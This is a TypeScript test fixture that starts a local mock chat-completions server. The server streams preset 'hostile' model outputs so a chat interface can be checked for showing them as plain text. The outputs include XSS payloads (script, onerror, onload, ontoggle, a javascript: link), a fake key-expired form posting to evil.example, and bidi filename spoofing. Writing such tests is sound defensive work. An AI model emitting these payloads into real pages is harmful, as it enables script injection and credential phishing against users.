import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Outputs that a page must show as text: markup, scripts, links that run code, text that turns its direction, length. */
export const HOSTILE_TEXTS = {
  html: [
    '<script>window.broken = "script"</script>',
    '<img src=x onerror="window.broken = \'img\'">',
    '<svg onload="window.broken = \'svg\'"><style>* { display: none }</style>',
    '</div></main><h1>Your key has expired</h1><form action="https://evil.example"><input name="key">',
  ].join('\n'),
  markdown: [
    '# A heading',
    '[click](javascript:window.broken="link") ![image](https://evil.example/pixel.png)',
    '<p data-tip="Your key has expired" aria-hidden="true" id="page" class="state">A paragraph</p>',
    '<details open ontoggle="window.broken = \'toggle\'">text</details>',
    '[fine](https://example.com)',
  ].join('\n\n'),
  bidi: 'file \u202Egnp.exe\u202C \u2066isolated\u2069 \u200F right \u0007 bell \u001B[31mred',
  long: `${'x'.repeat(1024 * 1024)} end`,
} as const;

export type HostileModel = keyof typeof HOSTILE_TEXTS;

export type HostileServer = { url: string; close: () => Promise<void> };

const PIECES = 8;

/** Starts a model server whose models are the names of the texts above, each of which it streams in some pieces. */
export const startHostileServer = async (): Promise<HostileServer> => {
  const server = createServer(async (request, response) => {
    if (request.method === 'GET')
      return void response.writeHead(200, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          object: 'list',
          data: Object.keys(HOSTILE_TEXTS).map((id) => ({ id, object: 'model' })),
        }),
      );
    let body = '';
    for await (const part of request) body += part;
    const { model } = JSON.parse(body) as { model: HostileModel };
    const text = HOSTILE_TEXTS[model];
    const chunk = (choices: unknown[], usage: unknown = null) =>
      response.write(
        `data: ${JSON.stringify({ id: 'chatcmpl-hostile', object: 'chat.completion.chunk', model, choices, usage })}\n\n`,
      );
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    const size = Math.ceil(text.length / PIECES);
    for (let at = 0; at < text.length; at += size)
      chunk([{ index: 0, delta: { content: text.slice(at, at + size) }, finish_reason: null }]);
    chunk([{ index: 0, delta: {}, finish_reason: 'stop' }]);
    chunk([], { prompt_tokens: 3, completion_tokens: PIECES, total_tokens: PIECES + 3 });
    response.end('data: [DONE]\n\n');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    close: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
};
